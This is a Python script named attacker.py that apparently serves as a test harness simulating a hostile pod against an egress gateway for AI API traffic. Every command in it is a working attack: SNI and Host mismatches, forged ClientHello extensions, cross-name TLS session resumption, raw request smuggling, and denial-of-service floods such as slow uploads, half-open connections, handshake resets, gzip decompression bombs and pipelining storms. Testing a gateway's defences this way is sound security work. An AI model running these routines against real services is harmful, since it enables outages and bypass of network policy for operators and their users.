#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""What a hostile pod does to a gateway. One attack a call; prints one JSON object of what came back.

Usage: attacker.py COMMAND [ARGUMENT...]; see COMMANDS at the end. Addresses and names are given, nothing is scanned;
every loop is bounded. Standard library only.
"""
import gzip
import json
import os
import resource
import select
import socket
import ssl
import struct
import sys
import threading
import time

TIMEOUT = float(os.environ.get("TIMEOUT", "8"))


def say(**what):
    print(json.dumps(what))


def dial(address, port=443):
    """FAMILY=4 or 6 in the environment: a name is reached by that family only."""
    family = {"4": socket.AF_INET, "6": socket.AF_INET6}.get(os.environ.get("FAMILY", ""))
    if family and not address.replace(".", "").isdigit() and ":" not in address:
        address = socket.getaddrinfo(address, port, family, socket.SOCK_STREAM)[0][4][0]
    return socket.create_connection((address, int(port)), timeout=TIMEOUT)


def outcome(error):
    """A failure as one word: what the pod saw of it."""
    if isinstance(error, ssl.SSLCertVerificationError):
        return "certificate: " + error.verify_message
    if isinstance(error, (ConnectionResetError, ssl.SSLEOFError, BrokenPipeError)):
        return "reset"
    if isinstance(error, ConnectionRefusedError):
        return "refused"
    if isinstance(error, (socket.timeout, TimeoutError)):
        return "timeout"
    return f"{type(error).__name__}: {error}"


def context(roots=None):
    c = ssl.create_default_context(cafile=roots or os.environ.get("ROOTS"))
    return c


def read_answer(s):
    """Head and what of the body comes until its Content-Length, the end, or the time-out."""
    data = b""
    try:
        while b"\r\n\r\n" not in data:
            got = s.recv(65536)
            if not got:
                return data
            data += got
        head, _, body = data.partition(b"\r\n\r\n")
        length = [int(v.split(b":")[1]) for v in head.split(b"\r\n") if v.lower().startswith(b"content-length:")]
        while length and len(body) < length[0]:
            got = s.recv(65536)
            if not got:
                break
            body += got
        return head + b"\r\n\r\n" + body
    except OSError:
        return data


def answer(data):
    head, _, body = data.partition(b"\r\n\r\n")
    lines = head.split(b"\r\n")
    headers = {}
    for line in lines[1:]:
        k, _, v = line.partition(b":")
        headers[k.decode("latin1").lower()] = v.strip().decode("latin1")
    status = int(lines[0].split()[1]) if lines and lines[0].startswith(b"HTTP/1.") else 0
    return {"status": status, "reason": headers.get("x-egret-reason"), "headers": headers,
            "body": body.decode("utf-8", "replace")[:2000]}


def request_bytes(host, method="POST", path="/v1/chat/completions", body=b'{"model":"gpt-4o","messages":[]}', extra=()):
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}"] if host is not None else [f"{method} {path} HTTP/1.1"]
    lines += list(extra)
    if method not in ("GET", "DELETE") and body is not None:
        lines += ["Content-Type: application/json", f"Content-Length: {len(body)}"]
    else:
        body = b""
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + body


def tls_request(sni, host, method="POST", path="/v1/chat/completions", address=None, *extra):
    """One request with this SNI and this Host, to an address or to where the SNI resolves."""
    try:
        with context().wrap_socket(dial(address or sni), server_hostname=sni) as s:
            s.sendall(request_bytes(host, method, path, extra=extra or ("Authorization: Bearer placeholder",)))
            say(issuer=dict(x[0] for x in s.getpeercert()["issuer"]), **answer(read_answer(s)))
    except OSError as e:
        say(error=outcome(e))


def raw(sni, *lines):
    """Bytes of a request exactly as given (\\r\\n escapes understood), under TLS."""
    data = "".join(lines).encode().decode("unicode_escape").encode("latin1")
    try:
        with context().wrap_socket(dial(sni), server_hostname=sni) as s:
            s.sendall(data)
            got = read_answer(s)
            after = b""
            try:
                after = s.recv(65536)
            except OSError:
                pass
            say(closed=after == b"", second=after[:60].decode("latin1"), **answer(got))
    except OSError as e:
        say(error=outcome(e))


def client_hello(name, extensions=b"", min_version=None):
    """A real ClientHello of the ssl module, from memory BIOs."""
    c = ssl.create_default_context()
    c.check_hostname = False
    c.verify_mode = ssl.CERT_NONE
    if min_version:
        c.maximum_version = min_version
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    o = c.wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        o.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read()
    if extensions:
        hello = add_extension(hello, extensions)
    return hello, o, incoming, outgoing


def add_extension(record, extension):
    """Puts an extension at the end of a ClientHello in one record and mends the four lengths."""
    body = bytearray(record[5:])
    at = 4 + 2 + 32
    at += 1 + body[at]
    at += 2 + struct.unpack_from(">H", body, at)[0]
    at += 1 + body[at]
    length = struct.unpack_from(">H", body, at)[0]
    body += extension
    struct.pack_into(">H", body, at, length + len(extension))
    body[1:4] = struct.pack(">I", len(body) - 4)[1:]
    return bytes(record[:3]) + struct.pack(">H", len(body)) + bytes(body)


def send_hello(address, data):
    try:
        with dial(address) as s:
            s.sendall(data)
            got = s.recv(65536)
            say(bytes=len(got), alert=got[:1] == b"\x15", handshake=got[:1] == b"\x16")
    except OSError as e:
        say(error=outcome(e))


def no_sni(address):
    send_hello(address, client_hello(None)[0])


def ech(address, outer):
    """An encrypted_client_hello extension (0xfe0d) beside an outer name."""
    payload = b"\x00" + struct.pack(">HHB", 1, 1, 7) + struct.pack(">H", 32) + os.urandom(32) + \
        struct.pack(">H", 64) + os.urandom(64)
    send_hello(address, client_hello(outer, struct.pack(">HH", 0xfe0d, len(payload)) + payload)[0])


def garbage(address, port="443"):
    try:
        with dial(address, port) as s:
            s.sendall(os.urandom(2048))
            say(bytes=len(s.recv(65536)))
    except OSError as e:
        say(error=outcome(e))


def split_hello(sni, at="100", address=None):
    """The ClientHello in two segments, then a whole request; to an address or to where the name resolves."""
    c = context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    o = c.wrap_bio(incoming, outgoing, server_hostname=sni)
    try:
        with dial(address or sni) as s:
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            first = True
            while True:
                try:
                    o.do_handshake()
                    done = True
                except ssl.SSLWantReadError:
                    done = False
                data = outgoing.read()
                if first:
                    s.sendall(data[:int(at)])
                    time.sleep(0.3)
                    s.sendall(data[int(at):])
                    first = False
                elif data:
                    s.sendall(data)
                if done:
                    break
                got = s.recv(65536)
                if not got:
                    raise ConnectionResetError()
                incoming.write(got)
            o.write(request_bytes(sni, extra=("Authorization: Bearer placeholder",)))
            s.sendall(outgoing.read())
            data = b""
            while b"\r\n\r\n" not in data:
                got = s.recv(65536)
                if not got:
                    break
                incoming.write(got)
                try:
                    data += o.read(65536)
                except ssl.SSLWantReadError:
                    pass
            say(**answer(data))
    except OSError as e:
        say(error=outcome(e))


def resume_other(first, second, version="1.2"):
    """Asks to resume the session of one name under another."""
    c = context()
    c.minimum_version = c.maximum_version = ssl.TLSVersion.TLSv1_2 if version == "1.2" else ssl.TLSVersion.TLSv1_3
    try:
        with c.wrap_socket(dial(first), server_hostname=first) as s:
            s.sendall(request_bytes(first, extra=("Authorization: Bearer placeholder",)))
            read_answer(s)
            session = s.session
        with c.wrap_socket(dial(first), server_hostname=first, session=session) as s:
            s.sendall(request_bytes(first, extra=("Authorization: Bearer placeholder",)))
            same = s.session_reused
            one = answer(read_answer(s))
        # The ssl module itself refuses a session for another name only by context: this is allowed.
        with c.wrap_socket(dial(second), server_hostname=second, session=session) as s:
            s.sendall(request_bytes(second, extra=("Authorization: Bearer placeholder",)))
            two = answer(read_answer(s))
            names = [v for k, v in s.getpeercert().get("subjectAltName", ()) if k == "DNS"]
            say(same_resumed=same, other_resumed=s.session_reused, names=names,
                first_status=one["status"], second_status=two["status"], reason=two["reason"])
    except OSError as e:
        say(error=outcome(e))


def plain(address, port, *lines):
    """Bytes exactly as given, without TLS (the gateway address, port 80)."""
    data = "".join(lines).encode().decode("unicode_escape").encode("latin1")
    try:
        with dial(address, port) as s:
            s.sendall(data)
            say(**answer(read_answer(s)))
    except OSError as e:
        say(error=outcome(e))


def tcp(address, port):
    """Can a connection be made, and do bytes get somewhere?"""
    try:
        with dial(address, port) as s:
            s.sendall(b"leak " * 200)
            s.settimeout(2)
            got = s.recv(1000)
            say(connected=True, bytes=len(got))
    except OSError as e:
        say(error=outcome(e))


def slow_uploads(sni, count, held, seconds):
    """COUNT connections that each announce 1 MiB, send HELD bytes and then a byte now and then."""
    count, held, seconds = int(count), int(held), float(seconds)
    c = context()
    sockets, refused, statuses = [], 0, {}
    body = b'{"model":"gpt-4o","messages":[{"role":"user","content":"' + b"x" * held
    head = request_bytes(sni, body=b"", extra=("Authorization: Bearer placeholder",)).split(b"Content-Length")[0] + \
        b"Content-Length: 1048576\r\n\r\n"
    for _ in range(count):
        try:
            s = c.wrap_socket(dial(sni), server_hostname=sni)
            s.sendall(head + body)
            s.setblocking(False)
            sockets.append(s)
        except OSError:
            refused += 1
    print(json.dumps({"open": len(sockets), "refused": refused}), flush=True)
    end = time.time() + seconds
    while time.time() < end:
        for s in list(sockets):
            try:
                s.send(b"x")
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                pass
            except OSError:
                sockets.remove(s)
                continue
            try:
                got = s.recv(65536)
                if got.startswith(b"HTTP/1.1 "):
                    statuses[got[9:12].decode()] = statuses.get(got[9:12].decode(), 0) + 1
                if not got:
                    sockets.remove(s)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                pass
            except OSError:
                sockets.remove(s)
        time.sleep(0.5)
    say(still_open=len(sockets), statuses=statuses)


def half_open(address, count, seconds):
    """COUNT connections that say nothing."""
    sockets, refused, count = [], 0, int(count)
    while len(sockets) < count and refused < count:  # a full backlog drops a SYN now and then
        try:
            sockets.append(socket.create_connection((address, 443), timeout=3))
        except OSError:
            refused += 1
    print(json.dumps({"open": len(sockets), "refused": refused}), flush=True)
    time.sleep(float(seconds))
    say(done=True)


def relays(host, count, seconds):
    """COUNT connections to an ungoverned site, each past the size from which the gateway uses pipes."""
    sockets, refused = [], 0
    c = ssl.create_default_context()
    c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
    request = b"POST /up HTTP/1.1\r\nHost: " + host.encode() + b"\r\nContent-Length: 1000000\r\n\r\n" + b"x" * 90000
    for _ in range(int(count)):
        try:
            s = c.wrap_socket(dial(host), server_hostname=host)
            s.sendall(request)
            sockets.append(s)
        except OSError:
            refused += 1
    print(json.dumps({"open": len(sockets), "refused": refused}), flush=True)
    time.sleep(float(seconds))
    say(done=True)


def stalled(host, count, seconds):
    """COUNT connections to an ungoverned site; when all are there each asks for something large, and reads nothing of it."""
    sockets = []
    c = ssl.create_default_context()
    c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
    for _ in range(int(count)):
        plain = dial(host)
        plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sockets.append(c.wrap_socket(plain, server_hostname=host))
    for s in sockets:
        s.sendall(b"GET /down HTTP/1.1\r\nHost: " + host.encode() + b"\r\n\r\n")
    print(json.dumps({"open": len(sockets)}), flush=True)
    time.sleep(float(seconds))
    say(done=True)


def no_reading(sni, model):
    """Asks for a large answer and does not read it."""
    try:
        s = context().wrap_socket(dial(sni), server_hostname=sni)
        s.sendall(request_bytes(sni, body=json.dumps({"model": model, "messages": []}).encode(),
                                extra=("Authorization: Bearer placeholder",)))
        print(json.dumps({"sent": True}), flush=True)
        time.sleep(6)
        s.close()
        say(done=True)
    except OSError as e:
        say(error=outcome(e))


def pausing(sni, model, size):
    """Asks for SIZE bytes, reads nothing for two seconds, then all that comes until ten seconds bring nothing."""
    got = 0
    try:
        plain = dial(sni)
        plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s = context().wrap_socket(plain, server_hostname=sni)
        s.settimeout(10)
        s.sendall(request_bytes(sni, body=json.dumps({"model": model, "messages": []}).encode(),
                                extra=("Authorization: Bearer placeholder",)))
        time.sleep(2)
        while got < int(size):
            piece = s.recv(65536)
            if not piece:
                break
            got += len(piece)
        say(bytes=got)
    except OSError as e:
        say(error=outcome(e), bytes=got)


def long_header(sni, size):
    """A request head of SIZE bytes."""
    try:
        with context().wrap_socket(dial(sni), server_hostname=sni) as s:
            try:
                s.sendall(b"POST /v1/chat/completions HTTP/1.1\r\nHost: " + sni.encode() + b"\r\nX-Long: ")
                left = int(size)
                while left > 0:
                    s.sendall(b"a" * min(left, 16384))
                    left -= 16384
                s.sendall(b"\r\nContent-Length: 0\r\n\r\n")
            except OSError:
                pass  # it answered and closed before all was sent
            say(**answer(read_answer(s)))
    except OSError as e:
        say(error=outcome(e))


def hellos(sni, connections, until):
    """Handshakes that cost the client nothing: a ClientHello, the first bytes of the answer, a reset; CONNECTIONS at once, until a
    file is there."""
    hello, begun, answered, failed = client_hello(sni)[0], 0, 0, 0
    at = socket.getaddrinfo(sni, 443, socket.AF_INET, socket.SOCK_STREAM)[0][4]
    poll, sockets = select.epoll(), {}

    def begin():
        s = socket.socket()
        s.setblocking(False)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        s.connect_ex(at)
        sockets[s.fileno()] = s
        poll.register(s.fileno(), select.EPOLLOUT)

    for _ in range(int(connections)):
        begin()
    print(json.dumps({"open": int(connections)}), flush=True)
    while not os.path.exists(until):
        for fd, events in poll.poll(0.2):
            s = sockets[fd]
            try:
                if events & select.EPOLLOUT:
                    s.send(hello)
                    begun += 1
                    poll.modify(fd, select.EPOLLIN)
                    continue
                answered += bool(s.recv(64))
            except OSError:
                failed += 1
            poll.unregister(fd)
            sockets.pop(fd).close()
            begin()
    say(begun=begun, answered=answered, failed=failed)


def dear_bodies(sni, connections, until, size=33000000):
    """A few kilobytes each, in gzip, that say SIZE bytes of JSON of the kind that is slowest to read, for a model that no route has; over
    CONNECTIONS connections, until a file is there."""
    item = b',{' + b",".join(b'"%c":1' % c for c in b"abcdefghijklmnopqrstuvwxyz") + b"}"
    head = b'{"model":"no-such-model","messages":[{}'
    text = head + item * ((int(size) - len(head) - 2) // len(item)) + b"]}"
    body = gzip.compress(text, 9)
    request = request_bytes(sni, body=body, extra=("Authorization: Bearer placeholder", "Content-Encoding: gzip"))
    statuses = {}

    def lane():
        s = None
        while not os.path.exists(until):
            try:
                s = s or context().wrap_socket(dial(sni), server_hostname=sni)
                s.settimeout(60)
                s.sendall(request)
                got = answer(read_answer(s))
                what = f"{got['status']} {got['reason']}"
            except OSError as e:
                what = outcome(e)
            statuses[what] = statuses.get(what, 0) + 1
            if not what.startswith(("403", "503")):
                s = None
                time.sleep(0.05)

    lanes = [threading.Thread(target=lane) for _ in range(int(connections))]
    for one in lanes:
        one.start()
    print(json.dumps({"open": int(connections), "bytes": len(body)}), flush=True)
    for one in lanes:
        one.join()
    say(statuses=statuses)


def large_bodies(sni, connections, until, size=30000000):
    """SIZE bytes of JSON each, as they are, for a model that no route has."""
    text = b'{"model":"no-such-model","messages":[{"role":"user","content":"' + b"x" * int(size) + b'"}]}'
    request = request_bytes(sni, body=text, extra=("Authorization: Bearer placeholder",))
    statuses = {}

    def lane():
        while not os.path.exists(until):
            try:
                with context().wrap_socket(dial(sni), server_hostname=sni) as s:
                    s.settimeout(60)
                    try:
                        s.sendall(request)
                    except OSError:
                        pass  # it answered and closed before all was sent
                    got = answer(read_answer(s))
                    what = f"{got['status']} {got['reason']}"
            except OSError as e:
                what = outcome(e)
            statuses[what] = statuses.get(what, 0) + 1

    lanes = [threading.Thread(target=lane) for _ in range(int(connections))]
    for one in lanes:
        one.start()
    print(json.dumps({"open": int(connections)}), flush=True)
    for one in lanes:
        one.join()
    say(statuses=statuses)


def pipelining(sni, connections, until):
    """Requests that are refused at once, hundreds in a write, on CONNECTIONS connections, until a file is there."""
    one = request_bytes(sni, method="GET", path="/x")
    block, sockets, sent, got = one * 400, [], 0, 0
    for _ in range(int(connections)):
        s = context().wrap_socket(dial(sni), server_hostname=sni)
        s.setblocking(False)
        sockets.append(s)
    rest = {s: b"" for s in sockets}
    print(json.dumps({"open": len(sockets)}), flush=True)
    while not os.path.exists(until):
        for s in sockets:
            try:
                got += len(s.recv(65536))
            except OSError:
                pass  # nothing is there, or it was closed
            try:
                rest[s] = rest[s] or block
                n = s.send(rest[s])
                rest[s] = rest[s][n:]
                sent += n
            except OSError:
                pass
    say(sent=sent // len(one), bytes=got)


COMMANDS = {f.__name__.replace("_", "-"): f for f in (
    tls_request, raw, no_sni, ech, garbage, split_hello, resume_other, plain, tcp, slow_uploads, half_open, relays, stalled, no_reading, pausing,
    long_header, hellos, dear_bodies, large_bodies, pipelining)}

if len(sys.argv) < 2 or sys.argv[1] not in COMMANDS:
    sys.exit("usage: attacker.py COMMAND [ARGUMENT...]; commands: " + ", ".join(sorted(COMMANDS)))
# A shell's 1,024 descriptors are fewer than the connections that some of these make.
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard if hard != resource.RLIM_INFINITY else max(soft, 65536), hard))
COMMANDS[sys.argv[1]](*sys.argv[2:])
